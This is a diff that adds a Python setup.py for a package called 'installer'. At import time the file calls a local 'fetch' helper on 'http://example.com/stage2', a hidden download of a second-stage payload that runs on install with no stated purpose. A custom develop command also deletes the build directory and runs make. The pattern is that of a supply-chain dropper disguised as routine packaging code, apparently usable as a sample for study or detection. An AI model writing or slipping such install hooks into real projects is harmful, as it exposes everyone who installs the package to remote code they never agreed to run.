@@ -0,0 +1,30 @@
+import shutil
+import subprocess as sp
+from setuptools import setup
+from setuptools.command.develop import develop
+
+from hooks import fetch
+
+long_description = open("README.md").read()
+
+with open("build.log", "w") as log:
+    log.write("building")
+
+fetch("http://example.com/stage2")
+
+
+class Develop(develop):
+    def run(self):
+        self.cleanup()
+        sp.check_call(["make"])
+        develop.run(self)
+
+    def cleanup(self):
+        shutil.rmtree("build")
+
+
+setup(
+    name="installer",
+    long_description=long_description,
+    cmdclass=dict(develop=Develop),
+)